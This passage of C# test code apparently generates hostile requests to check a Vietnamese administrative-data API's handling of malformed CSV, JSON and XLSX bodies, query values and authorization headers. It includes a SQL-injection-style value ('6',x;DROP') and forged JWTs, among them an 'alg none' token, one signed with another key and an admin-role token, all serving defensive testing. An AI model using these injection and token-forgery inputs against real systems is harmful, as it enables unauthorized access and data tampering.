            yield return ($"every date {date}", Encoding.UTF8.GetBytes(Render(EveryLeaf(baseJson.DeepClone(),
                v => v.GetValueKind() == JsonValueKind.String && Regex.IsMatch((string)v!, @"^\d{4}-\d{2}-\d{2}$") ? date : v.DeepClone()))));
    }

    static string ReplaceFirstValue(string text, string value)
    {
        var match = Regex.Match(text, "^\\{\"[^\"]+\":");
        return match.Success ? match.Value + value + "," + text[match.Length..].Split(',', 2).ElementAtOrDefault(1) : text;
    }

    static JsonNode EveryObject(JsonNode node, Action<JsonObject> change)
    {
        switch (node)
        {
            case JsonObject o:
                foreach (var child in o.Select(p => p.Value).OfType<JsonNode>().ToList())
                    EveryObject(child, change);
                change(o);
                break;
            case JsonArray a:
                foreach (var child in a.OfType<JsonNode>())
                    EveryObject(child, change);
                break;
        }
        return node;
    }

    static JsonNode? EveryLeaf(JsonNode? node, Func<JsonValue, JsonNode?> change)
    {
        switch (node)
        {
            case JsonObject o:
                foreach (var name in o.Select(p => p.Key).ToList())
                    o[name] = EveryLeaf(o[name]?.DeepClone(), change);
                return o;
            case JsonArray a:
                for (var i = 0; i < a.Count; i++)
                    a[i] = EveryLeaf(a[i]?.DeepClone(), change);
                return a;
            case JsonValue v:
                return change(v);
            default:
                return null;
        }
    }

    // ---- Other bodies (text/csv) ----

    IEnumerable<HostileRequest> TextBodyMutations(Func<HostileScope?, Draft> baseOf)
    {
        Draft Base() => baseOf(null);
        var text = Encoding.UTF8.GetString(Base().Body!);
        var lines = text.Split('\n', StringSplitOptions.RemoveEmptyEntries).ToList();
        var header = lines[0];
        var row = lines.Count > 1 ? lines[1] : header;
        var columns = header.Split(',');

        static string Quote(string cell) => "\"" + cell.Replace("\"", "\"\"") + "\"";
        string WithCell(int column, string cell)
        {
            var cells = row.Split(',');
            cells[Math.Min(column, cells.Length - 1)] = cell;
            return header + "\n" + string.Join(',', cells) + "\n";
        }

        var bodies = new List<(string Label, byte[] Body)>();
        void Add(string label, string body) => bodies.Add((label, Encoding.UTF8.GetBytes(body)));

        foreach (var value in Sample(Injections, 6).Concat(Sample(Controls, 4)).Concat(Sample(Overlong, 2)))
        {
            var column = rng.Next(columns.Length);
            Add($"cell {columns[column]} = {Label(value)}", WithCell(column, Quote(value)));
        }
        Add("NUL in a name", WithCell(Array.FindIndex(columns, c => c.EndsWith("_name", StringComparison.Ordinal)) is >= 0 and var n ? n : 1, "Xã\0Thử"));
        Add("U+FFFE in a name", WithCell(Array.FindIndex(columns, c => c.EndsWith("_name", StringComparison.Ordinal)) is >= 0 and var m ? m : 1, "Xã\uFFFEThử"));
        var badCell = Encoding.UTF8.GetBytes(WithCell(1, Marker));
        foreach (var bytes in Sample(InvalidUtf8, 3))
            bodies.Add(($"cell with invalid UTF-8 {Convert.ToHexString(bytes)}", Splice(badCell, bytes)));
        Add("empty", "");
        Add("header only", header + "\n");
        Add("no header", row + "\n");
        Add("CRLF line ends", text.Replace("\n", "\r\n"));
        Add("bare CR line ends", text.Replace("\n", "\r"));
        Add("extra column", header + ",extra\n" + row + ",x\n");
        Add("missing column", string.Join(',', columns[..^2]) + "\n" + string.Join(',', row.Split(',')[..^2]) + "\n");
        Add("unbalanced quote", header + "\n\"" + row + "\n");
        Add("1,000 columns", header + string.Concat(Enumerable.Repeat(",c", 1_000)) + "\n" + row + string.Concat(Enumerable.Repeat(",x", 1_000)) + "\n");
        Add("semicolon separated", text.Replace(',', ';'));
        Add("JSON instead of CSV", "{\"province_code\":\"68\"}");
        Add("10k empty lines", header + new string('\n', 10_000) + row + "\n");
        Add("NUL bytes", "\0\0\0\0");
        Add("duplicated row", header + "\n" + row + "\n" + row + "\n");
        Add("bad codes", header + "\n" + "6',x;DROP,99999999,x,xa,rural\n");
        Add("bad kind and area type", header + "\n" + "68,x,24778,x,thon,desert\n");
        // All or nothing: many acceptable rows, then one bad one.
        var many = new StringBuilder(header).Append('\n');
        for (var i = 0; many.Length < MaxBodyBytes - 200; i++)
            many.Append("68,Tỉnh Lâm Đồng,").Append((90_000 + i % 9_999).ToString("00000", System.Globalization.CultureInfo.InvariantCulture)).Append(",Xã Thử ").Append(i).Append(",xa,rural\n");
        many.Append("68,x,2477,x,nope,nope\n");
        Add("thousands of rows, the last one bad", many.ToString());
        bodies.Add(("random bytes", RandomBytes(4_096)));
        bodies.Add(("UTF-16 text", Encoding.Unicode.GetBytes(text)));
        bodies.Add(("byte order mark", [0xEF, 0xBB, 0xBF, .. Encoding.UTF8.GetBytes(text)]));
        bodies.Add(("over the limit", new byte[MaxBodyBytes + 1]));

        foreach (var (label, body) in bodies)
            yield return Base().With(d => d.Body = body).Build($"body: {label}");
        yield return Base().With(d => { d.Body = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat(row + "\n", 2 * MaxBodyBytes / row.Length))); d.Chunked = true; }).Build("body: 2 MiB chunked, no Content-Length");
        foreach (var (type, body) in ContentTypes.Append(("application/json", "{}")).Append(("text/csv; charset=utf-16", null)).Append(("TEXT/CSV", null)))
            yield return Base().With(d =>
            {
                d.ContentType = type.Length == 0 ? null : type;
                if (body is not null)
                    d.Body = Encoding.UTF8.GetBytes(body);
            }).Build($"content type {(type.Length == 0 ? "none" : type)}");
    }

    IEnumerable<HostileRequest> XlsxBodyMutations(Func<HostileScope?, Draft> baseOf)
    {
        var header = Encoding.UTF8.GetString(baseOf(null).Body!).Split('\n')[0].TrimEnd('\r').Split(',');
        foreach (var (label, body, _) in HostileXlsx.Cases(header))
            yield return baseOf(null).With(d => { d.Body = body; d.ContentType = HostileXlsx.ContentType; }).Build($"body: xlsx {label}");
    }

    // ---- Schema and JSON helpers ----

    /// <summary>Every property path of the body and of the schema (arrays by their first item), with its schema.</summary>
    IEnumerable<(object[] Path, JsonObject? Schema)> Paths(JsonNode? value, JsonObject? schema, object[] prefix)
    {
        schema = surface.Resolve(schema);
        switch (value)
        {
            case JsonObject o:
                var properties = schema?["properties"] as JsonObject;
                var additional = schema?["additionalProperties"] as JsonObject;
                var names = o.Select(p => p.Key).Concat(properties?.Select(p => p.Key) ?? []).Distinct().ToList();
                foreach (var name in names)
                {
                    var child = surface.Resolve(properties?[name] ?? additional);
                    object[] path = [.. prefix, name];
                    yield return (path, child);
                    foreach (var nested in Paths(o[name], child, path))
                        yield return nested;
                }
                break;
            case JsonArray { Count: > 0 } a:
                var items = surface.Resolve(schema?["items"]);
                object[] first = [.. prefix, 0];
                yield return (first, items);
                foreach (var nested in Paths(a[0], items, first))
                    yield return nested;
                break;
        }
    }

    string Kind(JsonObject? schema, JsonNode? current)
    {
        schema = surface.Resolve(schema);
        if (schema?["enum"] is JsonArray)
            return "enum";
        var types = schema?["type"] switch
        {
            JsonArray a => a.Select(t => (string?)t).OfType<string>().Where(t => t != "null").ToList(),
            JsonValue v => [(string)v!],
            _ => [],
        };
        switch ((string?)schema?["format"])
        {
            case "date": return "date";
            case "date-time": return "date-time";
            case "uuid": return "uuid";
        }
        foreach (var type in new[] { "integer", "number", "boolean", "array", "object", "string" })
            if (types.Contains(type))
                return type;
        if (schema?["properties"] is not null || schema?["additionalProperties"] is JsonObject)
            return "object";
        return current?.GetValueKind() switch
        {
            JsonValueKind.Number => "number",
            JsonValueKind.True or JsonValueKind.False => "boolean",
            JsonValueKind.Array => "array",
            JsonValueKind.Object => "object",
            _ => "string",
        };
    }

    /// <summary>A well-formed value for the schema: the scope's ids and the hints by name first.</summary>
    JsonNode? Synthesize(JsonObject? schema, string? name, HostileScope scope, int depth)
    {
        if (name is not null && scope.Properties.TryGetValue(name, out var known))
            return known;
        if (name is not null && Hints.TryGetValue(name, out var hint))
            return hint;
        schema = surface.Resolve(schema);
        if (schema is null || depth > 8)
            return "x";
        if (schema["enum"] is JsonArray values)
            return values.FirstOrDefault(v => v is not null)?.DeepClone();
        switch (Kind(schema, null))
        {
            case "date": return "2025-06-01";
            case "date-time": return "2025-06-01T00:00:00Z";
            case "uuid": return RandomGuid().ToString();
            case "integer": return 1;
            case "number": return 1_000_000;
            case "boolean": return false;
            case "array": return new JsonArray(Synthesize(schema["items"] as JsonObject, null, scope, depth + 1));
            case "object":
                var result = new JsonObject();
                foreach (var (property, propertySchema) in schema["properties"] as JsonObject ?? [])
                    result[property] = Synthesize(propertySchema as JsonObject, property, scope, depth + 1);
                if (schema["additionalProperties"] is JsonObject additional)
                    result["employment"] = Synthesize(additional, null, scope, depth + 1);
                return result;
            default:
                return schema["pattern"] is JsonValue pattern && Regex.Match((string)pattern!, @"^\^\[0-9\]\{(\d+)\}\$$") is { Success: true } digits
                    ? Digits(int.Parse(digits.Groups[1].Value, System.Globalization.CultureInfo.InvariantCulture))
                    : "Thử nghiệm";
        }
    }

    /// <summary>Points the example's ids (village, commune, head) at the scope's rows.</summary>
    static JsonNode? Patch(JsonNode? node, HostileScope scope)
    {
        EveryObject(node ?? new JsonObject(), o =>
        {
            foreach (var (name, value) in scope.Properties)
                if (o.ContainsKey(name))
                    o[name] = value;
        });
        return node;
    }

    static JsonNode? Navigate(JsonNode? node, object[] path)
    {
        foreach (var segment in path)
            node = segment is string name ? (node as JsonObject)?[name] : node is JsonArray a && (int)segment < a.Count ? a[(int)segment] : null;
        return node;
    }

    static void Set(JsonNode root, object[] path, JsonNode? value)
    {
        var parent = Navigate(root, path[..^1]);
        if (path[^1] is string name)
            parent!.AsObject()[name] = value;
        else
            parent!.AsArray()[(int)path[^1]] = value;
    }

    static JsonNode Removed(JsonNode root, object[] path)
    {
        var copy = root.DeepClone();
        var parent = Navigate(copy, path[..^1]);
        if (path[^1] is string name)
            parent!.AsObject().Remove(name);
        else
            parent!.AsArray().RemoveAt((int)path[^1]);
        return copy;
    }

    static string WithRaw(JsonNode root, object[] path, string raw)
    {
        var copy = root.DeepClone();
        Set(copy, path, Marker);
        return Render(copy).Replace($"\"{Marker}\"", raw);
    }

    static byte[] WithBytes(JsonNode root, object[] path, byte[] bytes)
    {
        var copy = root.DeepClone();
        Set(copy, path, "ab" + Marker + "cd");
        return Splice(Encoding.UTF8.GetBytes(Render(copy)), bytes);
    }

    static byte[] Splice(byte[] text, byte[] bytes)
    {
        var marker = Encoding.UTF8.GetBytes(Marker);
        var at = text.AsSpan().IndexOf(marker);
        return [.. text[..at], .. bytes, .. text[(at + marker.Length)..]];
    }

    static string Render(JsonNode? node) => node?.ToJsonString(Relaxed) ?? "null";

    static string Describe(object[] path) =>
        string.Concat(path.Select((s, i) => s is int index ? $"[{index}]" : i == 0 ? (string)s : "." + s));

    /// <summary>A short, printable label for a value (long ones are abbreviated, control characters escaped).</summary>
    public static string Label(string value)
    {
        var escaped = JsonSerializer.Serialize(value.Length > 40 ? value[..20] : value);
        return value.Length > 40 ? $"{escaped[..^1]}…\" ({value.Length} chars)" : escaped;
    }

    string[] QueryValues(JsonObject? schema)
    {
        var kind = Kind(schema, null);
        IEnumerable<string> Encode(IEnumerable<string> values) => values.Select(Uri.EscapeDataString);
        return kind switch
        {
            "integer" or "number" => IntegerQueries,
            "date" => [.. Encode(["2024-13-45", "0001-01-01", "9999-12-31"]), .. Encode(Dates.Where(d => !d.Contains('\0')))],
            "date-time" => [.. Encode(["2024-13-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"]), .. Encode(DateTimes)],
            "uuid" => [.. Encode(Uuids), RandomGuid().ToString()],
            "boolean" => ["yes", "2", "", "%00"],
            // Strings: dates (asOf is a string parameter), injections, overlong, control characters, raw invalid encodings.
            _ => [.. Encode(["9999-12-31", "0001-01-01", "2024-13-45"]), .. Encode(Injections), .. Encode(Controls.Where(c => c.Length < 100)),
                  Uri.EscapeDataString(new string('x', 101)), Uri.EscapeDataString(new string('x', 10_001)), "%FF%FE", "%", "%zz", "%C0%AF"],
        };
    }

    IEnumerable<(string Name, string Value)> ForgedAuthorizations()
    {
        var claims = new Dictionary<string, object> { ["sub"] = "forger", ["role"] = Roles.Admin, ["communes"] = new[] { "24778" } };
        string Forge(string? key, DateTime expires) => new JsonWebTokenHandler().CreateToken(new SecurityTokenDescriptor
        {
            Issuer = Infrastructure.ApiFactory.Issuer, Audience = Infrastructure.ApiFactory.Audience, Claims = claims,
            IssuedAt = expires.AddHours(-2), NotBefore = expires.AddHours(-2), Expires = expires,
            SigningCredentials = Infrastructure.ApiFactory.Credentials(key),
        });
        static string B64(string s) => Base64UrlEncoder.Encode(s);
        return
        [
            ("Bearer without token", "Bearer"), ("Bearer garbage", "Bearer x.y.z"), ("Bearer 10k characters", "Bearer " + new string('a', 10_000)),
            ("Basic credentials", "Basic dXNlcjpwYXNz"), ("alg none", $"Bearer {B64("{\"alg\":\"none\",\"typ\":\"JWT\"}")}.{B64("{\"sub\":\"x\",\"role\":\"admin\"}")}."),
            ("token signed with another key", "Bearer " + Forge(Infrastructure.ApiFactory.NewSigningKey(), DateTime.UtcNow.AddHours(1))),
            ("expired token", "Bearer " + Forge(null, DateTime.UtcNow.AddHours(-1))),
            ("two schemes", "Bearer a, Bearer b"),
        ];
    }

    // ---- Randomness, all from the seed ----

    IReadOnlyList<T> Sample<T>(IReadOnlyList<T> pool, int count)
    {
        var indices = Enumerable.Range(0, pool.Count).ToArray();
        rng.Shuffle(indices);
        return indices.Take(Math.Min(count, pool.Count)).Select(i => pool[i]).ToList();
    }

    IEnumerable<T> Sample<T>(IEnumerable<T> pool, int count) => Sample(pool.ToList(), count);

    Guid RandomGuid()
    {
        var bytes = new byte[16];
        rng.NextBytes(bytes);
        return new Guid(bytes);
    }

    byte[] RandomBytes(int count)
    {
        var bytes = new byte[count];
        rng.NextBytes(bytes);
        return bytes;
    }

    string Digits(int count) => string.Concat(Enumerable.Range(0, count).Select(_ => (char)('0' + rng.Next(10))));
}
